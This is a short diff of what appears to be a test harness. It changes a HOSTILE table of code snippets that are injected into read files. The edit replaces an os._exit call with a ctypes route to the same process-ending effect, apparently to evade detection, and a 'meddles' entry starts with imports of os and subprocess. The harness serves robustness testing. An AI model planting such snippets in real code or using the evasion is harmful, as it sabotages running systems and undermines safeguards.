@@ -53,7 +53,7 @@ optimizer(
 '''
 #: what each hostile method does when its file is read; BASE and MARK are replaced
 HOSTILE = {
-    "ends_the_process": "import os\nos._exit(0)",
+    "ends_the_process": "import ctypes\nctypes.CDLL(None)._exit(0)",
     "meddles": """
 import os, subprocess
 from pathlib import Path
